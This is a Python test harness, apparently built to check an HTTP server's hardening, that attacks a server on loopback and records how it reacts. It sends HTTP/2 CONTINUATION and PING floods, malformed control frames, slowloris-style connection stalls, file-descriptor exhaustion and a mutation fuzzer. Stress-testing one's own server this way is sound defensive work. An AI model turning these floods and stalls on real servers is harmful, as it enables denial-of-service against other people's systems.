#!/usr/bin/env python3
"""A hostile client on loopback: the attacks of the hardening issue, each measured from the client's side.

Usage:
  hostile.py after-error TRIGGER PORT [--tls] [--megabytes N]
      Opens HTTP/2 (h2c prior knowledge, or TLS with ALPN h2), provokes a connection error with TRIGGER
      (window_update0: WINDOW_UPDATE of 0 on stream 0; continuation: HEADERS then endless empty CONTINUATION
      frames; settings_ack: an unsolicited SETTINGS ACK with a payload; ping_flood: no error but PINGs whose answers
      are never read), then keeps sending PING frames (or, for
      continuation, more CONTINUATION frames) without reading, up to N MB (default 1000) or 10 s.
      Prints {"goaway_code": int|null, "closed_after": seconds|null, "sent_mb": float}.
  stall KIND PORT LIMIT
      Opens a connection and stalls before the first request; KIND is bare (TCP, nothing sent), tls_no_hello
      (nothing sent to a TLS port), tls_no_preface (TLS with ALPN h2 done, no preface), h2c_partial_preface,
      h2_no_stream (preface and SETTINGS, no stream). Prints {"closed_after": seconds|null} (null: open at LIMIT).
  idle_no_ack PORT LIMIT
      One h2c request, then silence: PINGs are never acknowledged. Prints {"status": str, "goaway": bool,
      "closed_after": seconds since the response|null}.
  stream_limit PORT N
      Opens N streams (HEADERS without END_STREAM) on one h2c connection after acknowledging the server's SETTINGS,
      then ends the first stream and asks once more. Prints {"advertised": int, "answered": int, "refused": [ids],
      "goaway": bool, "after": status of the last request|null}.
  fd_exhaust PORT PID IDLE WINDOW
      Keeps one HTTP/1.1 connection alive, opens IDLE idle connections (more than the server's descriptor limit),
      measures the server's CPU time (from /proc/PID/stat) over WINDOW seconds, then asks on the kept-alive
      connection. Prints {"opened": int, "cpu_seconds": float, "health_status": str, "health_after": seconds,
      "fresh_status": str} (fresh: a new connection once the idle ones have closed).
  fuzz PORT SECONDS SEED
      Seeded mutation loop: mutated HTTP/1.1 heads and HTTP/2 frame sequences, each on a fresh connection, for
      SECONDS. Prints {"cases": int, "h1": int, "h2": int}.
"""
import json
import random
import socket
import ssl
import struct
import sys
import threading
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid & 0x7FFFFFFF) + payload


def connect(port, tls=False, alpn=("h2",), timeout=10):
    sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    if tls:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(list(alpn))
        sock = ctx.wrap_socket(sock)
    return sock


class FrameReader:
    """Reads the server's frames on a socket, in a thread or on demand."""

    def __init__(self, sock):
        self.sock = sock
        self.buf = b""
        self.frames = []
        self.closed_at = None

    def read_once(self, timeout):
        self.sock.settimeout(timeout)
        try:
            data = self.sock.recv(65536)
        except socket.timeout:
            return True
        except (ConnectionError, OSError, ssl.SSLError):
            data = b""
        if not data:
            if self.closed_at is None:
                self.closed_at = time.monotonic()
            return False
        self.buf += data
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                break
            ftype, flags = self.buf[3], self.buf[4]
            sid = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            self.frames.append((ftype, flags, sid, self.buf[9:9 + length]))
            self.buf = self.buf[9 + length:]
        return True

    def until(self, predicate, limit):
        end = time.monotonic() + limit
        while not predicate() and time.monotonic() < end:
            if not self.read_once(max(0.01, min(0.2, end - time.monotonic()))):
                return predicate()
        return predicate()

    def goaway(self):
        for ftype, _, _, payload in self.frames:
            if ftype == GOAWAY:
                return int.from_bytes(payload[4:8], "big")
        return None


def h2_open(sock, ack=True):
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    reader = FrameReader(sock)
    if ack:
        reader.until(lambda: any(f[0] == SETTINGS and not f[1] & 1 for f in reader.frames), 5)
        sock.sendall(frame(SETTINGS, 1, 0))
    return reader


def request_headers(path="/", authority="127.0.0.1"):
    return hpack.Encoder().encode([(":method", "GET"), (":path", path), (":scheme", "http"), (":authority", authority)])


def after_error(trigger, port, tls, megabytes):
    sock = connect(port, tls)
    reader = h2_open(sock)
    if trigger == "window_update0":
        sock.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0)))
        flood = frame(PING, 0, 0, b"12345678") * 4096
    elif trigger == "settings_ack":
        sock.sendall(frame(SETTINGS, 1, 0, b"\x00\x03\x00\x00\x00\x01"))
        flood = frame(PING, 0, 0, b"12345678") * 4096
    elif trigger == "ping_flood":
        # No error at first: PINGs the client never reads the answers to, until the server's buffered answers
        # are an error of their own.
        flood = frame(PING, 0, 0, b"12345678") * 4096
    elif trigger == "continuation":
        # The error comes once the server has seen too many CONTINUATION frames.
        flood = frame(CONTINUATION, 0, 1) * 8192
        sock.sendall(frame(HEADERS, 0, 1, request_headers()) + flood)
    else:
        raise SystemExit("unknown trigger " + trigger)
    start = time.monotonic()
    # The GOAWAY comes first; after it this client reads nothing, as an attacker would not.
    reader.until(lambda: reader.goaway() is not None, 1.0)
    sent = 0
    closed_after = None
    sock.settimeout(2)
    limit = megabytes * 1_000_000
    while sent < limit and time.monotonic() - start < 10:
        try:
            sock.sendall(flood)
            sent += len(flood)
        except (ConnectionError, OSError, ssl.SSLError, socket.timeout) as e:
            if isinstance(e, socket.timeout):
                # The server's receive window is full and it reads nothing: see whether it has closed.
                if not reader.read_once(0.05) or reader.closed_at:
                    closed_after = time.monotonic() - start
                    break
                continue
            closed_after = time.monotonic() - start
            break
    if closed_after is None:
        # Everything was sent (or 10 s passed): wait a little for the close.
        if not reader.until(lambda: reader.closed_at is not None, 3):
            closed_after = None
        else:
            closed_after = reader.closed_at - start
    sock.close()
    return {"goaway_code": reader.goaway(), "closed_after": closed_after, "sent_mb": round(sent / 1e6, 1)}


def stall(kind, port, limit):
    start = time.monotonic()
    if kind in ("bare", "tls_no_hello"):
        sock = connect(port)
    elif kind == "tls_no_preface":
        sock = connect(port, tls=True)
    elif kind == "h2c_partial_preface":
        sock = connect(port)
        sock.sendall(PREFACE[:10])
    elif kind == "h2_no_stream":
        sock = connect(port)
        h2_open(sock)
    else:
        raise SystemExit("unknown stall " + kind)
    reader = FrameReader(sock)
    closed = reader.until(lambda: reader.closed_at is not None, limit - (time.monotonic() - start))
    sock.close()
    return {"closed_after": round(reader.closed_at - start, 2) if closed else None}


def idle_no_ack(port, limit):
    sock = connect(port)
    reader = h2_open(sock)
    sock.sendall(frame(HEADERS, 0x5, 1, request_headers()))
    reader.until(lambda: any(f[0] == DATA and f[1] & 1 and f[2] == 1 for f in reader.frames), 5)
    status = "answered" if any(f[0] == DATA and f[2] == 1 for f in reader.frames) else "no response"
    answered = time.monotonic()
    closed = reader.until(lambda: reader.closed_at is not None, limit)
    sock.close()
    return {"status": status, "goaway": reader.goaway() is not None,
            "closed_after": round(reader.closed_at - answered, 2) if closed else None}


def stream_limit(port, n):
    sock = connect(port)
    reader = h2_open(sock)
    advertised = None
    for ftype, flags, _, payload in reader.frames:
        if ftype == SETTINGS and not flags & 1:
            for i in range(0, len(payload), 6):
                ident, value = struct.unpack(">HI", payload[i:i + 6])
                if ident == 3:
                    advertised = value
    # Wait for the server's ACK of our SETTINGS, so its limits are in force.
    reader.until(lambda: any(f[0] == SETTINGS and f[1] & 1 for f in reader.frames), 5)
    block = request_headers()
    ids = [1 + 2 * i for i in range(n)]
    sock.sendall(b"".join(frame(HEADERS, 0x4, sid, block) for sid in ids))

    def settled():
        done = {f[2] for f in reader.frames if (f[0] == DATA and f[1] & 1) or f[0] == RST_STREAM}
        return all(sid in done for sid in ids) or reader.goaway() is not None

    reader.until(settled, 10)
    refused = sorted(f[2] for f in reader.frames if f[0] == RST_STREAM and int.from_bytes(f[3][:4], "big") == 7)
    answered = len({f[2] for f in reader.frames if f[0] == DATA and f[1] & 1})
    after = None
    if reader.goaway() is None:
        # End the first stream, then one more request fits.
        sock.sendall(frame(DATA, 0x1, ids[0]))
        last = ids[-1] + 2
        sock.sendall(frame(HEADERS, 0x5, last, block))
        reader.until(lambda: any(f[2] == last and (f[0] == RST_STREAM or (f[0] == DATA and f[1] & 1))
                                 for f in reader.frames), 5)
        for ftype, _, sid, payload in reader.frames:
            if sid == last and ftype == HEADERS:
                after = "answered"
            if sid == last and ftype == RST_STREAM:
                after = "reset %d" % int.from_bytes(payload[:4], "big")
    sock.close()
    return {"advertised": advertised, "answered": answered, "refused": refused,
            "goaway": reader.goaway() is not None, "after": after}


def read_response(sock, timeout):
    """Reads one HTTP/1.1 response with a Content-Length; returns its status line ('' if none came)."""
    sock.settimeout(timeout)
    data = b""
    try:
        while b"\r\n\r\n" not in data:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
        head, _, body = data.partition(b"\r\n\r\n")
        length = 0
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.strip().lower() == b"content-length":
                length = int(value)
        while len(body) < length:
            chunk = sock.recv(65536)
            if not chunk:
                break
            body += chunk
    except (socket.timeout, OSError):
        pass
    return data.split(b"\r\n", 1)[0].decode("latin-1")


def cpu_seconds(pid):
    with open("/proc/%d/stat" % pid) as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / 100.0


def fd_exhaust(port, pid, idle, window):
    request = b"GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n"
    keep = socket.create_connection(("127.0.0.1", port), timeout=5)
    keep.sendall(request)
    first = read_response(keep, 5)
    conns = []
    for _ in range(idle):
        try:
            conns.append(socket.create_connection(("127.0.0.1", port), timeout=2))
        except OSError:
            break
    time.sleep(0.5)
    before = cpu_seconds(pid)
    time.sleep(window)
    cpu = cpu_seconds(pid) - before
    start = time.monotonic()
    keep.sendall(request)
    health = read_response(keep, 5)
    health_after = time.monotonic() - start
    for c in conns:
        c.close()
    keep.close()
    fresh = ""
    end = time.monotonic() + 10
    while not fresh.startswith("HTTP/1.1 200") and time.monotonic() < end:
        try:
            sock = socket.create_connection(("127.0.0.1", port), timeout=2)
            sock.sendall(request)
            fresh = read_response(sock, 2)
            sock.close()
        except OSError:
            time.sleep(0.2)
    return {"first_status": first, "opened": len(conns), "cpu_seconds": round(cpu, 2), "health_status": health,
            "health_after": round(health_after, 3), "fresh_status": fresh}


H1_SEEDS = [
    b"GET / HTTP/1.1\r\nHost: a\r\n\r\n",
    b"POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\nhello",
    b"POST /x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
    b"GET http://b.example/p?q=1 HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
    b"GET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\nGET / HTTP/1.1\r\nHost: b\r\n\r\n",
    b"OPTIONS * HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 3\r\n\r\nabc",
]
H1_TOKENS = [b"\r\n", b"\n", b"\r", b":", b" ", b"\t", b"\x00", b"\xff", b"chunked", b"Content-Length: ", b"9" * 30,
             b"Transfer-Encoding: ", b",", b"HTTP/1.1", b"%", b"%zz", b"/../", b"Host: ", b"-1"]


def mutate(rng, data, tokens):
    data = bytearray(data)
    for _ in range(rng.randint(1, 6)):
        op = rng.randrange(6)
        pos = rng.randrange(len(data) + 1)
        if op == 0 and data:
            data[min(pos, len(data) - 1)] ^= 1 << rng.randrange(8)
        elif op == 1:
            data[pos:pos] = rng.choice(tokens)
        elif op == 2 and data:
            del data[pos:pos + rng.randint(1, 8)]
        elif op == 3:
            data = data[:pos]
        elif op == 4 and data:
            start = rng.randrange(len(data))
            data[pos:pos] = data[start:start + rng.randint(1, 32)]
        else:
            data[pos:pos] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 8)))
    return bytes(data)


def h2_case(rng):
    frames = [frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)), frame(SETTINGS, 1, 0),
              frame(HEADERS, 0x4, 1, request_headers()), frame(DATA, 0x1, 1, b"body"),
              frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1000)), frame(PING, 0, 0, b"abcdefgh"),
              frame(PRIORITY, 0, 3, struct.pack(">IB", 1, 16)), frame(RST_STREAM, 0, 1, struct.pack(">I", 8)),
              frame(HEADERS, 0x25, 3, struct.pack(">IB", 0, 0) + request_headers("/b")),
              frame(CONTINUATION, 0x4, 5), frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0))]
    picked = [rng.choice(frames) for _ in range(rng.randint(1, 8))]
    out = bytearray()
    for f in picked:
        if rng.random() < 0.5:
            f = bytearray(f)
            field = rng.randrange(4)
            if field == 0:
                f[0:3] = rng.randrange(1 << 24).to_bytes(3, "big") if rng.random() < 0.2 else rng.randrange(64).to_bytes(3, "big")
            elif field == 1:
                f[3] = rng.randrange(12)
            elif field == 2:
                f[4] = rng.randrange(256)
            else:
                f[5:9] = rng.choice([0, 1, 2, 3, 0x7FFFFFFF, rng.randrange(1 << 32)]).to_bytes(4, "big")
            if len(f) > 9 and rng.random() < 0.5:
                f = bytearray(mutate(rng, bytes(f[:9]), [b"\x00"]) [:9]) + f[9:]
            f = bytes(f)
        out += f
    return PREFACE + bytes(out)


def fuzz(port, seconds, seed):
    rng = random.Random(seed)
    end = time.monotonic() + seconds
    counts = {"cases": 0, "h1": 0, "h2": 0}
    while time.monotonic() < end:
        if rng.random() < 0.5:
            payload = mutate(rng, rng.choice(H1_SEEDS), H1_TOKENS)
            counts["h1"] += 1
        else:
            payload = h2_case(rng)
            counts["h2"] += 1
        counts["cases"] += 1
        try:
            sock = socket.create_connection(("127.0.0.1", port), timeout=2)
            sock.sendall(payload)
            sock.settimeout(0.02)
            try:
                while sock.recv(65536):
                    pass
            except (socket.timeout, OSError):
                pass
            sock.close()
        except OSError:
            pass
    return counts


def main(argv):
    mode = argv[1]
    if mode == "after-error":
        tls = "--tls" in argv
        mb = int(argv[argv.index("--megabytes") + 1]) if "--megabytes" in argv else 1000
        out = after_error(argv[2], int(argv[3]), tls, mb)
    elif mode == "stall":
        out = stall(argv[2], int(argv[3]), float(argv[4]))
    elif mode == "idle_no_ack":
        out = idle_no_ack(int(argv[2]), float(argv[3]))
    elif mode == "stream_limit":
        out = stream_limit(int(argv[2]), int(argv[3]))
    elif mode == "fd_exhaust":
        out = fd_exhaust(int(argv[2]), int(argv[3]), int(argv[4]), float(argv[5]))
    elif mode == "fuzz":
        out = fuzz(int(argv[2]), float(argv[3]), int(argv[4]))
    else:
        raise SystemExit(__doc__)
    print(json.dumps(out))


if __name__ == "__main__":
    main(sys.argv)
